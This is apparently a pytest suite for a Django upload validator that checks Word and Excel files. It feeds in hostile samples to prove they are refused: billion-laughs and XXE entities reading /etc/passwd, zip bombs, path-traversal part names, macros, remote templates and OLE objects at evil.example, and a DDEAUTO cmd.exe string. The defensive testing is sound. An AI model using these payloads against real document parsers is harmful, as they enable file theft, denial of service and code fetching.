"""A Word or Excel file is taken when it keeps the limits, holds nothing that runs, and needs nothing from elsewhere."""

import struct
import tracemalloc
import zipfile
from random import Random

import pytest
from django.core.exceptions import ValidationError

from tests.toolkit import made_files as make
from tests.toolkit.made_files import Lie, contents, lying_docx, relation, relations
from toolkit import files, office

DOCUMENT = "word/document.xml"
RELS = "word/_rels/document.xml.rels"
HYPERLINK = make.OFFICE + "/hyperlink"
LAUGHS = (
    '<!DOCTYPE x [<!ENTITY a "haha">'
    + "".join(f'<!ENTITY {chr(b)} "{f"&{chr(b - 1)};" * 10}">' for b in range(98, 107))
    + "]><x>&j;</x>"
)
FETCHES = '<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]><x>&a;</x>'
NOISE = Random(1).randbytes(9 * 1024 * 1024).hex().encode()[: 9 * 1024 * 1024]
OLD = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 600


def with_part(name: str, content: str | bytes = "x") -> bytes:
    return make.docx(more={name: content})


def with_relation(kind: str, target: str, mode: str = "") -> bytes:
    return with_part(RELS, relations(relation(kind, target, mode)))


def with_type(told: str, part: str = "/word/other.bin") -> bytes:
    return make.docx(types=[f'<Override PartName="{part}" ContentType="{told}"/>'])


def told_as(kind: str, main_type: str) -> bytes:
    return make.office(kind, more={"[Content_Types].xml": contents(make.MAIN[kind][0], main_type)})


def encrypted() -> bytes:
    return lying_docx("word/a.xml", b"<a/>", Lie(flags=1))


def twice(first: str, second: str) -> bytes:
    held = [(name, content.encode(), None) for name, content in make.parts("docx").items()]
    return make.lying_zip([*held, (first, b"<a/>", None), (second, b"<b/>", None)])


def overlapping() -> bytes:
    """Return a docx of which the bytes of one part are those of another: a.bin holds b.bin with its header."""
    held = [(name, content.encode(), None) for name, content in make.parts("docx").items()]
    inner = make.lying_zip([("word/b.bin", b"b" * 100, Lie(method=0))]).partition(b"PK\x01\x02")[0]
    return make.lying_zip(
        [*held, ("word/a.bin", inner, Lie(method=0)), ("word/b.bin", b"b" * 100, Lie(method=0, inside=30 + len("word/a.bin")))]
    )


REFUSED = {
    # What it is called is not what it is.
    "a zip as docx": ("x.docx", make.zipped({"a.txt": "a"}), "mismatch"),
    "an empty zip as docx": ("x.docx", make.zipped({}), "mismatch"),
    "an app of Android as docx": ("x.docx", make.zipped({"AndroidManifest.xml": "x", "classes.dex": "x"}), "mismatch"),
    "xlsx as docx": ("x.docx", make.xlsx(), "mismatch"),
    "docx as xlsx": ("x.xlsx", make.docx(), "mismatch"),
    "docx as pdf": ("x.pdf", make.docx(), "mismatch"),
    "docx as jpg": ("x.jpg", make.docx(), "mismatch"),
    "docm as docx": ("x.docx", told_as("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"), "mismatch"),
    "xlsm as xlsx": ("x.xlsx", told_as("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "mismatch"),
    "xlsb as xlsx": ("x.xlsx", told_as("xlsx", "application/vnd.ms-excel.sheet.binary.macroEnabled.main"), "mismatch"),
    "dotx as docx": ("x.docx", told_as("docx", make.OOXML + "wordprocessingml.template.main+xml"), "mismatch"),
    "pptx as docx": ("x.docx", told_as("docx", make.OOXML + "presentationml.presentation.main+xml"), "mismatch"),
    "odt as docx": ("x.docx", make.zipped({"mimetype": "application/vnd.oasis…", "content.xml": "<a/>"}), "mismatch"),
    "old doc as docx": ("x.docx", OLD, "mismatch"),
    "old xls as xlsx": ("x.xlsx", OLD, "mismatch"),
    "page before a docx": ("x.docx", b"<html><script>alert(1)</script>" + make.docx(), "mismatch"),
    "program before a docx": ("x.docx", b"MZ\x90\0" + make.docx(), "mismatch"),
    "xls": ("x.xls", OLD, "type"),
    "doc": ("x.doc", OLD, "type"),
    "docm": ("x.docm", told_as("docx", "application/vnd.ms-word.document.macroEnabled.main+xml"), "type"),
    "xlsm": ("x.xlsm", told_as("xlsx", "application/vnd.ms-excel.sheet.macroEnabled.main+xml"), "type"),
    "zip": ("x.zip", make.zipped({"a.txt": "a"}), "type"),
    "jar": ("x.jar", make.zipped({"META-INF/MANIFEST.MF": "x"}), "type"),
    "docx called docm": ("x.docm", make.docx(), "ending"),
    "docx called docx.exe": ("x.docx.exe", make.docx(), "ending"),
    # Locked.
    "docx behind a password": ("x.docx", OLD + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "xlsx behind a password": ("x.xlsx", OLD + "EncryptedPackage".encode("utf-16-le"), "locked"),
    "encrypted part": ("x.docx", encrypted(), "locked"),
    "strongly encrypted part": ("x.docx", lying_docx("word/a.xml", b"<a/>", Lie(flags=0x40)), "locked"),
    "hidden directory": ("x.docx", lying_docx("word/a.xml", b"<a/>", Lie(flags=0x2000)), "locked"),
    # Too much.
    "201 parts": ("x.docx", make.docx(more={f"word/{n}.txt": "" for n in range(198)}), "parts"),
    "30,000 parts": ("x.docx", make.docx(more={f"{n}": "" for n in range(30_000)}), "parts"),
    "101 MB told": ("x.docx", lying_docx("word/a.bin", b"a", Lie(size=101 * 1024 * 1024)), "unpacked"),
    "4 GB told": ("x.docx", lying_docx("word/a.bin", b"a", Lie(size=0xFFFFFFFE)), "unpacked"),
    "5 MB of nothing": ("x.docx", with_part("word/a.bin", bytes(5 * 1024 * 1024)), "bomb"),
    "5 MB of spaces in the main part": ("x.docx", make.docx(more={DOCUMENT: " " * 5_000_000 + "<a/>"}), "bomb"),
    "parts over one another": ("x.docx", overlapping(), "bomb"),
    "told smaller than it is": ("x.docx", lying_docx("word/a.bin", bytes(900_000), Lie(size=10)), "bomb"),
    "told larger than it is": ("x.docx", lying_docx("word/a.bin", b"abc", Lie(size=1000)), "unreadable"),
    "stored, told smaller": ("x.docx", lying_docx("word/a.bin", b"abcdef", Lie(size=2, method=0)), "bomb"),
    "a list of contents of 3 MB": (
        "x.docx",
        make.docx(types=["<Default/>" + "<!--" + NOISE[:3_000_000].decode() + "-->"]),
        "bomb",
    ),
    "an attribute of 9 MB": ("x.docx", make.docx(more={DOCUMENT: b'<a b="' + NOISE + b'"/>'}), "bomb"),
    "a comment of 9 MB": ("x.docx", make.docx(more={DOCUMENT: b"<a><!--" + NOISE + b"--></a>"}), "bomb"),
    "257 deep": ("x.docx", make.docx(more={DOCUMENT: "<a>" * 257 + "</a>" * 257}), "bomb"),
    # Names.
    "up": ("x.docx", with_part("../../evil.txt"), "names"),
    "up in the middle": ("x.docx", with_part("word/../../evil.txt"), "names"),
    "up with backslashes": ("x.docx", with_part("..\\..\\evil.txt"), "names"),
    "absolute": ("x.docx", with_part("/etc/passwd"), "names"),
    "a drive": ("x.docx", with_part("C:/evil.txt"), "names"),
    "a share": ("x.docx", with_part("//server/evil.txt"), "names"),
    "a share with backslashes": ("x.docx", with_part("\\\\server\\evil.txt"), "names"),
    "a dot": ("x.docx", with_part("word/./evil.txt"), "names"),
    "an empty step": ("x.docx", with_part("word//evil.txt"), "names"),
    "NUL in a part": ("x.docx", lying_docx("word/a\0.exe", b"a", Lie()), "names"),
    "line break in a part": ("x.docx", with_part("word/a\n.txt"), "names"),
    "right-to-left in a part": ("x.docx", with_part("word/a\u202etxt.exe"), "names"),
    "the same part twice": ("x.docx", twice("word/a.xml", "word/a.xml"), "names"),
    "the main part twice": ("x.docx", twice("word/a.xml", DOCUMENT), "names"),
    "the same but for capitals": ("x.docx", twice("word/a.xml", "word/A.xml"), "names"),
    "another name in front of the part": ("x.docx", lying_docx("word/a.xml", b"<a/>", Lie(name=b"word/b.xml")), "names"),
    # What runs.
    "vbaProject": ("x.docx", with_part("word/vbaProject.bin"), "macros"),
    "vbaProject of a workbook": ("x.xlsx", make.xlsx(more={"xl/vbaProject.bin": "x"}), "macros"),
    "vbaProject elsewhere, in capitals": ("x.docx", with_part("other/VBAPROJECT.BIN"), "macros"),
    "vbaData": ("x.docx", with_part("word/vbaData.xml", "<a/>"), "macros"),
    "macros under another name": ("x.docx", with_type("application/vnd.ms-office.vbaProject"), "macros"),
    "macros by their ending": (
        "x.docx",
        make.docx(types=['<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>']),
        "macros",
    ),
    "Excel 4 macros": ("x.xlsx", make.xlsx(more={"xl/macrosheets/sheet1.xml": "<a/>"}), "macros"),
    "Excel 4 macros by type": ("x.docx", with_type("application/vnd.ms-excel.macrosheet+xml"), "macros"),
    "controls": ("x.docx", with_part("word/activeX/activeX1.bin"), "macros"),
    # What is drawn from elsewhere.
    "template elsewhere": ("x.docx", with_relation("attachedTemplate", "http://evil.example/t.dotm", "External"), "external"),
    "picture elsewhere": ("x.docx", with_relation("image", "https://evil.example/p.png", "External"), "external"),
    "object elsewhere": ("x.docx", with_relation("oleObject", "mhtml:http://evil.example/x!x", "External"), "external"),
    "frame elsewhere": ("x.docx", with_relation("frame", "http://evil.example/", "External"), "external"),
    "document elsewhere": ("x.docx", with_relation("subDocument", "file:///C:/x.docx", "External"), "external"),
    "elsewhere in small letters": ("x.docx", with_relation("image", "x.png", "external"), "external"),
    "elsewhere, not told": ("x.docx", with_relation("image", "http://evil.example/p.png"), "external"),
    "a share, not told": ("x.docx", with_relation("image", "\\\\server\\p.png"), "external"),
    "elsewhere from the front": (
        "x.docx",
        make.docx(more={"_rels/.rels": relations(relation("officeDocument", "http://evil.example/d.xml", "External"))}),
        "external",
    ),
    "a link that only sounds like one": (
        "x.docx",
        with_relation(HYPERLINK + "s", "http://evil.example/", "External"),
        "external",
    ),
    "workbook elsewhere": ("x.xlsx", make.xlsx(more={"xl/externalLinks/externalLink1.xml": "<a/>"}), "external"),
    "workbook elsewhere by relation": (
        "x.xlsx",
        make.xlsx(more={"xl/_rels/workbook.xml.rels": relations(relation("externalLink", "other/e1.xml"))}),
        "external",
    ),
    "relations in UTF-16": (
        "x.docx",
        with_part(RELS, relations(relation("image", "http://evil.example/p.png", "External")).encode("utf-16")),
        "external",
    ),
    "relations with a prefix": (
        "x.docx",
        with_part(
            RELS,
            f'<r:Relationships xmlns:r="{make.RELS}"><r:Relationship Id="r" Type="{make.OFFICE}/image" '
            'Target="http://evil.example/p.png" TargetMode="External"/></r:Relationships>',
        ),
        "external",
    ),
    # Declarations.
    "laughs in the main part": ("x.docx", make.docx(more={DOCUMENT: LAUGHS}), "doctype"),
    "laughs in a workbook": ("x.xlsx", make.xlsx(more={"xl/workbook.xml": LAUGHS}), "doctype"),
    "laughs in the list of contents": ("x.docx", make.docx(more={"[Content_Types].xml": LAUGHS}), "doctype"),
    "laughs in the styles": ("x.docx", with_part("word/styles.xml", LAUGHS), "doctype"),
    "laughs in shared strings": ("x.xlsx", make.xlsx(more={"xl/sharedStrings.xml": LAUGHS}), "doctype"),
    "laughs in relations": ("x.docx", with_part(RELS, LAUGHS), "doctype"),
    "an entity that fetches": ("x.docx", make.docx(more={DOCUMENT: FETCHES}), "doctype"),
    "a DOCTYPE in UTF-16": ("x.docx", make.docx(more={DOCUMENT: FETCHES.encode("utf-16")}), "doctype"),
    "a bare DOCTYPE": ("x.docx", make.docx(more={DOCUMENT: "<!DOCTYPE html><html/>"}), "doctype"),
    # Damaged.
    "first letters only": ("x.docx", b"PK\x03\x04", "unreadable"),
    "half of it": ("x.docx", make.docx()[:400], "unreadable"),
    "without its directory": ("x.docx", make.docx().split(b"PK\x01\x02")[0], "unreadable"),
    "wrong checksum": ("x.docx", lying_docx("word/a.bin", b"abc", Lie(crc=1)), "unreadable"),
    "bytes that do not unpack": ("x.docx", lying_docx("word/a.bin", b"abc", Lie(packed=b"\xff" * 9)), "unreadable"),
    "bytes that stop short": ("x.docx", lying_docx("word/a.bin", b"abcdefgh" * 9, Lie(packed=b"K")), "unreadable"),
    "bytes behind the packed ones": ("x.docx", lying_docx("word/a.bin", b"a", Lie(packed=b"K\x04\0more")), "unreadable"),
    "packed by no known method": ("x.docx", lying_docx("word/a.bin", b"abc", Lie(method=99)), "unreadable"),
    "packed by another method": ("x.docx", make.zipped(make.parts("docx"), zipfile.ZIP_LZMA), "unreadable"),
    "no main part": ("x.docx", make.docx(more={DOCUMENT: None}), "unreadable"),
    "no workbook": ("x.xlsx", make.xlsx(more={"xl/workbook.xml": None}), "unreadable"),
    "no list of contents": ("x.docx", make.docx(more={"[Content_Types].xml": None}), "mismatch"),
    "broken list of contents": ("x.docx", make.docx(more={"[Content_Types].xml": "<Types"}), "unreadable"),
    "broken main part": ("x.docx", make.docx(more={DOCUMENT: "<a><b></a>"}), "unreadable"),
    "empty main part": ("x.docx", make.docx(more={DOCUMENT: ""}), "unreadable"),
    "main part of an unheard alphabet": (
        "x.docx",
        make.docx(more={DOCUMENT: '<?xml version="1.0" encoding="utf-7"?><a/>'}),
        "unreadable",
    ),
    "broken relations": ("x.docx", with_part(RELS, "<Relationships>"), "unreadable"),
    "styles that are not XML": ("x.docx", with_part("word/styles.xml", "MZ"), "unreadable"),
    "an undeclared entity": ("x.docx", make.docx(more={DOCUMENT: "<a>&x;</a>"}), "unreadable"),
}


@pytest.mark.parametrize(("name", "content", "code"), REFUSED.values(), ids=REFUSED.keys())
def test_a_hostile_office_file_is_refused_in_words_and_nothing_is_kept(root, name, content, code):
    assert make.refusal_of(name, content) == code
    assert not root.exists()


TAKEN = {
    "links to pages": with_relation(HYPERLINK, "https://example.vn/", "External"),
    "links as the strict standard writes them": with_relation(
        "http://purl.oclc.org/ooxml/officeDocument/relationships/hyperlink", "https://example.vn/", "External"
    ),
    "200 parts": make.docx(more={f"word/{n}.txt": "" for n in range(197)}),
    "parts within the ratio": with_part("word/a.bin", bytes(1024 * 1024)),
    "256 deep": make.docx(more={DOCUMENT: "<a>" * 256 + "</a>" * 256}),
    "a picture that is no picture": with_part("word/media/image1.png", "<svg onload=alert(1)>"),
    "an archive inside": with_part("word/embeddings/a.zip", make.zipped({"a.bin": bytes(900_000)})),
    "the main part elsewhere inside": make.docx(
        more={
            "[Content_Types].xml": contents("word/document2.xml", make.MAIN["docx"][1]),
            "word/document2.xml": make.BODY["docx"],
            DOCUMENT: None,
        }
    ),
    "the main part told by its ending": make.docx(
        more={
            "[Content_Types].xml": f'<Types xmlns="{make.TYPES}"><Default Extension="xml" '
            f'ContentType="{make.MAIN["docx"][1]}"/></Types>'
        }
    ),
    "a page behind it": make.docx() + b"<html><script>alert(1)</script></html>",
    "formulas and exchange of data": make.docx(more={DOCUMENT: "<a>DDEAUTO c:\\\\windows\\\\system32\\\\cmd.exe</a>"}),
    "parts stored unpacked": make.zipped(make.parts("docx"), zipfile.ZIP_STORED),
}


@pytest.mark.parametrize("content", TAKEN.values(), ids=TAKEN.keys())
def test_an_office_file_that_is_taken_is_kept_as_it_came_and_leaves_as_a_sandboxed_download(root, content):
    taken = files.take_in(make.upload("bảng tính.docx", content))
    answer = files.answer_download(taken.sha256, taken.kind, taken.name)

    assert (taken.kind, taken.size, taken.pages) == ("docx", len(content), 0)
    assert b"".join(answer.streaming_content) == content
    assert answer.headers["Content-Disposition"].startswith("attachment; ")
    assert answer.headers["Content-Security-Policy"] == "sandbox; default-src 'none'"
    assert answer.headers["X-Content-Type-Options"] == "nosniff"


def test_more_elements_than_any_paper_has_are_refused(root, monkeypatch):
    monkeypatch.setattr(office, "MOST_ELEMENTS", 100)

    assert make.refusal_of("x.docx", make.docx(more={DOCUMENT: "<a>" + "<b/>" * 100 + "</a>"})) == "bomb"


def test_a_directory_without_end_is_refused_before_it_is_read(root):
    line = b"PK\x01\x02" + bytes(42)
    lines = 200_000
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 2, 2, len(line) * lines, 30, 0)
    content = b"PK\x03\x04" + bytes(26) + line * lines + end

    tracemalloc.start()
    try:
        assert make.refusal_of("x.docx", content) == "parts"
        assert tracemalloc.get_traced_memory()[1] < 4 * len(content)
    finally:
        tracemalloc.stop()


def test_a_damaged_office_file_is_taken_or_refused_in_words_whatever_the_damage(root):
    """1,000 mutants of a good file: bytes flipped, cut out, doubled, run on."""
    chance, codes = Random(2022), set()
    good = make.docx(more={RELS: relations(relation("image", "media/a.png")), "word/media/a.png": "a" * 500})
    for _number in range(1000):
        mutant = bytearray(good)
        for _change in range(chance.randint(1, 8)):
            at, length = chance.randrange(len(mutant)), chance.randint(1, 20)
            mutant[at : at + chance.choice((0, 1, length))] = chance.randbytes(chance.choice((0, 1, length)))
        try:
            files.take_in(make.upload("x.docx", bytes(mutant) or b"x"))
        except ValidationError as refused:
            codes.add(refused.code)
            str(refused.messages)

    assert codes >= {"unreadable", "names", "mismatch"}
